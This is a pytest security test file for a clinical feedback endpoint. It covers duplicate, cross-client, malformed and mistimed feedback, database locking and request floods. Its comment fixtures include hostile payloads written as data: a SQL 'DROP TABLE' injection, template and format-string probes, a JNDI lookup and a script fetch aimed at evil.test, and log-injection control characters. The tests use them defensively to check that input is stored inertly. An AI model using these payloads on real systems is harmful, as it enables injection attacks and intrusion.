"""Cases FB-01 to FB-15: feedback that is repeated, foreign, hostile, malformed, or comes when nothing is written."""

from __future__ import annotations

import os
import sqlite3
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing, contextmanager
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from tests.attack.attacker import post
from tests.attack.case_table import field_case
from tests.attack.charts import Json, membranous
from tests.attack.field import FEEDBACK, Field
from tests.attack.raid import Raid, eventually, here_and_now, treated

TIMES = 100
FLOOD_SECONDS = float(os.environ.get("NEXTLINE_FEEDBACK_FLOOD_SECONDS", "2"))
"""The case asks for 30 seconds at 500 a second; every run of the tests sends what four connections can."""
LOCKED_SECONDS = float(os.environ.get("NEXTLINE_LOCKED_SECONDS", "1.5"))
NOISE = 250.0
COMMENTS = (
    "'); DROP TABLE feedback;--",
    "%s%n%x {0} {{7*7}} ${jndi:ldap://evil.test/a} #{7*7} <%= 7*7 %>",
    "<script>fetch('https://evil.test')</script>",
    'line one\r\n{"level":"info","event":"service_call"}\u2028\u202e\x1b[2J',
    "nul \0 and lone \ud800 ends",
    "é\u0301 ẞ 漢字 🧬",
    "x" * 8192,
)


def entry(card: str | None = None, **members: Any) -> Json:
    """One accepted card."""
    told = {
        "card": card or str(uuid.uuid4()),
        "outcome": "accepted",
        "acceptedSuggestions": [{"id": str(uuid.uuid4())}],
        "outcomeTimestamp": "2026-11-22T10:00:00Z",
    }
    return {name: value for name, value in (told | members).items() if value is not None}


def overridden(card: str | None = None, comment: str = "seen", **members: Any) -> Json:
    """A card that was set aside with a comment, and without a reason of the list: it silences nothing."""
    reason = {"userComment": comment}
    return entry(card, outcome="overridden", acceptedSuggestions=None, overrideReason=reason, **members)


def give(raid: Raid, *entries: Json, status: int = 200, **presented: Any) -> Json:
    """Sends feedback."""
    body: Json = raid.send({"feedback": list(entries)}, status, path=FEEDBACK, **presented).json
    return body


def kept(field: Field, card: str) -> list[Any]:
    """What the database holds about a card: decision, outcome, time, deliveries."""
    return [
        row[1:]
        for row in field.rows("SELECT card, decision_id, outcome, outcome_at, deliveries FROM feedback")
        if row[0] == card
    ]


@pytest.mark.conformance("FB-1", "FB-8", "FB-9")
@field_case("FB-01")
def test_the_same_feedback_a_hundred_times_is_one_row(raid: Raid) -> None:
    card = raid.send(treated()).cards[0]["uuid"]
    same = entry(card)
    with ThreadPoolExecutor(4) as pool:
        answers = list(pool.map(lambda _: feedback_of(raid, same), range(TIMES)))
    assert {said.status for said in answers} == {200}
    ((decision, outcome, at, deliveries),) = kept(raid.field, card)
    assert (outcome, at, deliveries) == ("accepted", same["outcomeTimestamp"], TIMES)
    assert decision is not None


def feedback_of(raid: Raid, told: Json) -> Any:
    return post(raid.target.url, {"feedback": [told]}, dict(raid.field.token(FEEDBACK)), path=FEEDBACK)


@pytest.mark.conformance("FB-3")
@field_case("FB-03")
def test_another_client_learns_nothing_of_a_card_and_changes_nothing(raid: Raid) -> None:
    card = raid.send(here_and_now(membranous("pat-d"))).cards[0]["uuid"]
    other = dict(raid.field.token(FEEDBACK, raid.field.hospital.other))
    again = dict(raid.field.token(FEEDBACK, raid.field.hospital.other))
    about_ours = give(raid, overridden(card), headers=other)
    about_none = give(raid, overridden(str(uuid.uuid4())), headers=again)
    assert about_ours == about_none
    ((decision, *_),) = kept(raid.field, card)
    assert decision is None, "feedback of another client is tied to our decision"


@pytest.mark.conformance("FB-10")
@field_case("FB-05")
@pytest.mark.parametrize("comment", COMMENTS, ids=range(len(COMMENTS)))
def test_a_comment_is_kept_as_it_is_and_nowhere_else(raid: Raid, comment: str) -> None:
    told = overridden(comment=comment)
    if "\ud800" in comment:  # no UTF-8 can say it: a broken escape in the body
        give(raid, told, status=400)
        return
    give(raid, told)
    assert len(kept(raid.field, told["card"])) == 1
    marker = comment.encode()[:24]
    files = [path for path in raid.field.service.directory.rglob("*") if path.is_file()]
    assert [path.name for path in files if marker in path.read_bytes()] == []
    assert comment[:24] not in raid.target.log_text(0)


@field_case("FB-05")
def test_a_comment_that_is_too_long_is_cut_and_a_body_that_is_too_long_refused(raid: Raid) -> None:
    told = overridden(comment="y" * 9000)
    give(raid, told)
    ((cut,),) = [row[1:] for row in raid.field.rows("SELECT card, comment_cut FROM feedback") if row[0] == told["card"]]
    assert cut
    give(raid, overridden(comment="z" * 300_000), status=413)
    give(raid, *(entry() for _ in range(501)), status=413)


WRONG: tuple[tuple[str, Json], ...] = (
    ("outcome", {"outcome": "ignored"}),
    ("outcome", {"outcome": "Accepted"}),
    ("outcome", {"outcome": None}),
    ("outcome", {"outcome": ["accepted"]}),
    ("acceptedSuggestions", {"acceptedSuggestions": None}),
    ("acceptedSuggestions", {"acceptedSuggestions": []}),
    ("acceptedSuggestions[0]", {"acceptedSuggestions": ["x"]}),
    ("acceptedSuggestions[0].id", {"acceptedSuggestions": [{"id": 7}]}),
    ("card", {"card": None}),
    ("card", {"card": 7}),
    ("card", {"card": " "}),
    ("card", {"card": "c" * 100}),
    ("overrideReason", {"overrideReason": {}}),
    ("overrideReason", {"overrideReason": "because"}),
    ("overrideReason.userComment", {"overrideReason": {"userComment": 7}}),
    ("overrideReason.reason", {"overrideReason": {"reason": "code"}}),
    ("overrideReason.reason.code", {"overrideReason": {"reason": {"system": "x"}}}),
)


@pytest.mark.conformance("FB-3", "FB-4", "FB-5", "FB-6")
@field_case("FB-08")
@pytest.mark.parametrize(("member", "change"), WRONG, ids=[f"{member} {change}"[:50] for member, change in WRONG])
def test_one_wrong_entry_is_named_and_nothing_is_kept(raid: Raid, member: str, change: Json) -> None:
    right = entry()
    wrong = {name: value for name, value in (entry() | change).items() if value is not None}
    refused = give(raid, right, wrong, status=400)
    assert refused["issue"][0]["expression"] == [f"feedback[1].{member}"]
    assert kept(raid.field, right["card"]) == []


@pytest.mark.conformance("FB-2")
@field_case("FB-08")
@pytest.mark.parametrize("body", [{}, {"feedback": []}, {"feedback": {}}, {"feedback": None}, {"feedback": [7]}, []])
def test_feedback_that_is_no_list_of_entries_is_malformed(raid: Raid, body: Any) -> None:
    raid.send(body, 400, path=FEEDBACK)


@pytest.mark.conformance("FB-7")
@field_case("FB-10")
@pytest.mark.parametrize(
    "moment",
    [
        "2026-11-22T10:00:00",
        "2026-11-22",
        "22.11.2026 10:00Z",
        "2026-13-01T10:00:00Z",
        "2026-11-22T25:00:00Z",
        "1795378986",
        1795378986,
        "",
    ],
)
def test_a_time_without_a_zone_or_none_at_all_is_refused(raid: Raid, moment: Any) -> None:
    give(raid, entry(outcomeTimestamp=moment), status=400)


@field_case("FB-10")
@pytest.mark.parametrize(
    "moment",
    [
        (datetime.now(UTC) + timedelta(days=1)).isoformat(),
        "1999-01-01T00:00:00Z",
        "2016-12-31T23:59:60Z",
        "9999-12-31T23:59:59-14:00",
        "0001-01-01T00:00:00+14:00",
        "2026-11-22t10:00:00.123456789z",
    ],
    ids=["tomorrow", "before the card", "leap second", "year 9999", "year 1", "small letters"],
)
def test_a_strange_time_is_kept_as_it_was_told_with_the_time_it_came(raid: Raid, moment: str) -> None:
    told = entry(outcomeTimestamp=moment)
    give(raid, told)
    ((_, _, at, _),) = kept(raid.field, told["card"])
    assert at == moment
    ((came,),) = [
        row[1:] for row in raid.field.rows("SELECT card, received_at FROM feedback") if row[0] == told["card"]
    ]
    assert str(came).startswith(datetime.now(UTC).date().isoformat()[:8])


@contextmanager
def locked(field: Field) -> Iterator[None]:
    """Another process holds the database for the time of a block: nobody else can write."""
    with closing(sqlite3.connect(field.database, timeout=5, isolation_level=None)) as connection:
        connection.execute("BEGIN IMMEDIATE")
        try:
            yield
        finally:
            connection.execute("ROLLBACK")


@field_case("FB-12")
def test_feedback_is_taken_while_the_database_is_locked_and_found_in_it_afterwards(raid: Raid) -> None:
    told = [overridden() for _ in range(6)]
    began = time.monotonic()
    with locked(raid.field):
        for one in told:
            give(raid, one)
        assert [kept(raid.field, one["card"]) for one in told] == [[]] * len(told)
        time.sleep(max(0.0, LOCKED_SECONDS - (time.monotonic() - began)))
    assert eventually(lambda: all(len(kept(raid.field, one["card"])) == 1 for one in told))
    time.sleep(0.2)
    assert [row[3] for one in told for row in kept(raid.field, one["card"])] == [1] * len(told)


@field_case("FB-12")
def test_a_token_stays_used_while_the_database_is_locked(raid: Raid) -> None:
    header = dict(raid.field.token(FEEDBACK))
    with locked(raid.field):
        give(raid, overridden(), headers=header)
        assert post(raid.target.url, {"feedback": [overridden()]}, header, path=FEEDBACK).status == 401
    eventually(lambda: not list(raid.field.service.directory.rglob("*.spool/*.spool")))
    assert post(raid.target.url, {"feedback": [overridden()]}, header, path=FEEDBACK).status == 401


@field_case("FB-15")
def test_a_flood_of_feedback_keeps_no_card_from_its_reader(raid: Raid) -> None:
    idle = sorted(card_time(raid) for _ in range(10))
    flooding, statuses = threading.Event(), list[int]()

    def flood() -> None:
        while not flooding.is_set():
            statuses.append(feedback_of(raid, overridden()).status)

    with ThreadPoolExecutor(4) as pool:
        for _ in range(4):
            pool.submit(flood)
        until, attacked = time.monotonic() + FLOOD_SECONDS, []
        while time.monotonic() < until:
            attacked.append(card_time(raid))
            time.sleep(0.1)
        flooding.set()
    assert len(statuses) > 50
    assert set(statuses) <= {200, 429}
    assert max(attacked) < max(2 * max(idle), NOISE), f"{max(attacked):.0f} ms, idle {max(idle):.0f} ms"


def card_time(raid: Raid) -> float:
    """Milliseconds of a call for cards, which must be answered."""
    said = post(raid.target.url, treated(), dict(raid.field.token()))
    assert said.status == 200
    raid.answered += 1
    return said.milliseconds
